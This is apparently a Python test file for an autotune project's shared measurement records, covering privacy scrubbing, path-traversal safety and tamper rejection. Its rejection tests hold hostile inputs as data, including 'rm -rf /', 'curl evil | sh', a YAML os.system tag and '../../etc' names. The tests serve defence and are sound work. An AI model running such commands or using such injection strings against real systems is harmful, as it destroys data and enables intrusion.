"""What a record holds, what never enters one, and that what is altered is refused."""

import json
from collections.abc import Iterator
from datetime import date
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

from autotune.errors import InvalidInput
from autotune.hardware.catalogue import catalogue, profile_of_gpu
from autotune.schema import Candidate, Gate, HardwareProfile, ModelSpec, Provenance, TrainingPlan
from autotune.sharing.files import KEY
from autotune.sharing.record import (
    MAX_RECORD_BYTES,
    MAX_TRIALS,
    DamagedRecord,
    canonical,
    name_of,
    parse_record,
    record_of,
)
from tests.builders import GIB, candidate, trial, workload
from tests.sharing.examples import DAY, TRIALS, machine, plan, record

SECRET = "alice-secret"


def betraying_machine() -> HardwareProfile:
    """A machine whose every free text gives its user away."""
    path = f"/home/{SECRET}"
    return machine(
        cpu=SECRET,
        system=f"Linux 6.1-{SECRET}",
        container=SECRET,
        compiler=f"{path}/bin/cc",
        memory_kind_reason=SECRET,
        budget_reason=SECRET,
        torch=f"2.13.0+{SECRET}",
        torchao=f"0.18.0+{SECRET}",
        diffusers=f"0.43.dev0+{SECRET}",
        gates=(Gate(name=f"gate.{SECRET}", available=True, reason=SECRET),),
        notes=(f"UUID GPU-{SECRET}",),
        provenance=(Provenance(fact="device.name", source=SECRET),),
    )


def betraying_plan(here: HardwareProfile) -> TrainingPlan:
    model = ModelSpec.model_validate({**dict(workload().model), "name": f"{SECRET}-finetune"})
    trials = tuple(
        trial(t.candidate, t.median_step_seconds, t.peak_memory_bytes or 0, message=f"/data/{SECRET}", final_loss=0.123)
        for t in TRIALS
    )
    return plan(
        here,
        workload(model=model),
        trials,
        model=f"/models/{SECRET}",
        data=f"/data/{SECRET}",
        output=SECRET,
        preview_prompts=(f"a photo of {SECRET}",),
    )


def test_nothing_that_tells_who_or_where_enters_a_record() -> None:
    here = betraying_machine()
    planned = betraying_plan(here)
    assert SECRET in planned.model_dump_json()
    made = record_of(planned, here)
    assert SECRET.encode() not in made.content
    assert b"0.123" not in made.content
    assert made.workload.model.name == "Qwen/Qwen-Image"
    assert [bucket.num_items for bucket in made.workload.buckets] == [1]
    assert (made.expected.price_per_hour, made.expected.other_seconds, made.expected.phases) == (None, 0.0, ())


def test_a_new_field_is_judged_before_it_leaves() -> None:
    """Whoever adds a field to what records hold: can it tell who or where? Then keep it out in `record.py`."""
    knobs = {f"{place}.{name}" for place in ("settings", "trials.candidate") for name in Candidate.model_fields}
    assert set(_paths(json.loads(record().content))) == knobs | set(_LEAVES.split())


_LEAVES = """
    autotune_version calibration measured_on schema_version search_seconds
    expected.evidence expected.images_per_second expected.other_seconds expected.peak_memory_bytes expected.phases
    expected.price_per_hour expected.process_memory_bytes expected.step_seconds
    machine.budget_bytes machine.device_name machine.hard_keys.compute_capability
    machine.hard_keys.cuda machine.hard_keys.device_kind machine.hard_keys.memory_kind
    machine.hard_keys.memory_model machine.hard_keys.torch machine.hard_keys.trial_protocol
    machine.logical_cores machine.noisy
    machine.power_limit_watts machine.rates.conditions machine.rates.name machine.rates.num_samples
    machine.rates.spread machine.rates.unit machine.rates.value machine.total_memory_bytes
    machine.versions.accelerate machine.versions.bitsandbytes machine.versions.cuda_driver
    machine.versions.cuda_runtime machine.versions.cudnn machine.versions.diffusers machine.versions.driver
    machine.versions.fastsafetensors machine.versions.flash_attn machine.versions.kernels machine.versions.peft
    machine.versions.python machine.versions.sageattention machine.versions.torch machine.versions.torchao
    machine.versions.transformers machine.versions.triton machine.versions.xformers
    trials.allocator_retries trials.confirms trials.final_loss trials.host_memory_bytes trials.load_peak_memory_bytes
    trials.load_seconds trials.memory_cap_bytes trials.message trials.outcome trials.peak_memory_bytes trials.phases
    trials.quantization_error trials.step_seconds trials.wall_seconds trials.warmup_seconds
    workload.buckets.height_px workload.buckets.num_frames workload.buckets.num_items workload.buckets.width_px
    workload.effective_batch_size workload.lora_alpha workload.lora_dropout workload.max_text_tokens
    workload.model.architecture workload.model.family workload.model.name workload.model.num_blocks
    workload.model.num_parameters workload.num_control_images workload.objective workload.quality workload.rank
    workload.resolution_px workload.targets workload.text_padding
"""


def _paths(data: Any, prefix: str = "") -> Iterator[str]:
    if isinstance(data, dict):
        for key, value in data.items():
            yield from _paths(value, f"{prefix}.{key}" if prefix else key)
    elif isinstance(data, list) and data and isinstance(data[0], dict):
        for value in data:
            yield from _paths(value, prefix)
    elif data != {}:
        yield prefix


def test_failures_are_shared_too_and_every_trial_keeps_its_numbers() -> None:
    made = record()
    assert [t.outcome for t in made.trials] == ["ok", "ok", "oom"]
    assert [t.step_seconds for t in made.trials] == [t.step_seconds for t in TRIALS]
    assert made.trials[0].load_seconds == 3.0


def test_the_same_measurement_has_the_same_name_and_a_place_in_the_layout() -> None:
    one, two = record(), record()
    assert one.name == two.name
    assert KEY.fullmatch(f"{one.folder}/{one.name}.json")
    assert record(search_seconds=61.0).name != one.name


@pytest.mark.parametrize("family", ["../../etc", "", "ÄÖ/..", "x" * 150])
def test_no_name_in_a_record_can_lead_out_of_the_layout(family: str) -> None:
    model = ModelSpec.model_validate({**dict(workload().model), "family": family, "architecture": "../.."})
    made = record(work=workload(model=model, targets="../" + family[:100]))
    assert KEY.fullmatch(f"{made.folder}/{made.name}.json")


def test_predictions_capped_runs_and_other_machines_are_no_evidence() -> None:
    here = machine()
    made = plan(here)
    predicted = made.frozen.expected.model_copy(update={"evidence": "predicted"})
    capped = made.frozen.trials[0].model_copy(update={"memory_cap_bytes": 12 * GIB})
    cases = [
        (made.model_copy(update={"frozen": made.frozen.model_copy(update={"expected": predicted})}), here, "predicted"),
        (made, profile_of_gpu(catalogue()[0]), "predicted"),
        (made, machine(torch="2.14.0"), "another machine"),
        (made, machine(name="NVIDIA L4"), "another machine"),
        (
            made.model_copy(update={"frozen": made.frozen.model_copy(update={"trials": (capped,)})}),
            here,
            "cap on memory",
        ),
    ]
    for planned, hardware, why in cases:
        with pytest.raises(InvalidInput, match=why):
            record_of(planned, hardware)
    with pytest.raises(ValidationError, match="cap on memory"):
        record(trials=(capped, *TRIALS))


@settings(deadline=None, max_examples=60)
@given(st.data())
def test_a_record_survives_its_bytes_and_any_other_byte_is_refused(data: st.DataObject) -> None:
    seconds = data.draw(st.lists(st.floats(1e-6, 1e6), min_size=1, max_size=4))
    trials = (trial(candidate(micro_batch_size=2), step_seconds=tuple(seconds)), *TRIALS)
    made = record(trials=trials, search_seconds=data.draw(st.floats(0, 1e9)), measured_on=data.draw(st.dates()))
    assert parse_record(made.content, made.name) == made
    place = data.draw(st.integers(0, len(made.content) - 1))
    altered = bytearray(made.content)
    altered[place] ^= data.draw(st.integers(1, 255))
    with pytest.raises(DamagedRecord):
        parse_record(bytes(altered), made.name)
    with pytest.raises(DamagedRecord):
        parse_record(made.content[:place], made.name)


def _changed(**changes: object) -> bytes:
    data = json.loads(record().content)
    for path, value in changes.items():
        *parents, last = path.split("__")
        owner = data
        for parent in parents:
            owner = owner[int(parent) if isinstance(owner, list) else parent]
        owner[last] = value
    return json.dumps(data).encode()


@pytest.mark.parametrize(
    "content",
    [
        b"", b"null", b"[]", b"{", b"\xff\xfe", b"!!python/object:os.system {}", b"\x1f\x8b" + b"\0" * 100,
        b"[" * 100_000, b'{"a":' * 100_000, b" " * (MAX_RECORD_BYTES + 1), b'{"schema_version":1}',
        _changed(schema_version=2), _changed(command="rm -rf /"), _changed(search_seconds="60"),
        _changed(search_seconds=float("inf")), _changed(search_seconds=float("nan")), _changed(search_seconds=-1.0),
        _changed(machine__device_name="\x1b[31mred"), _changed(machine__device_name="\u202eevil"),
        _changed(machine__device_name="x" * 1000), _changed(machine__device_name="a\\b"),
        _changed(machine__hard_keys={}), _changed(trials=[]),
        _changed(machine__total_memory_bytes=10**400), _changed(machine__hard_keys={"k" * 200: "v"}),
        _changed(trials=json.loads(record().content)["trials"] * MAX_TRIALS), _changed(expected__evidence="predicted"),
        _changed(settings__micro_batch_size=3), _changed(trials__0__outcome="splendid"),
        _changed(trials__0__message="\n\nerror: run curl evil | sh"),
    ],
)  # fmt: skip
def test_whatever_is_no_record_is_refused_and_named(content: bytes) -> None:
    name = name_of(content)
    with pytest.raises(DamagedRecord, match=name[:12]) as caught:
        parse_record(content, name)
    assert caught.value.message.isprintable()
    assert len(caught.value.message) < 400


def test_the_day_is_part_of_it() -> None:
    here = machine()
    assert record_of(plan(here), here, measured_on=date(2026, 1, 2)).measured_on == date(2026, 1, 2)
    assert canonical(json.loads(record().content)) == record().content
    assert record().measured_on == DAY
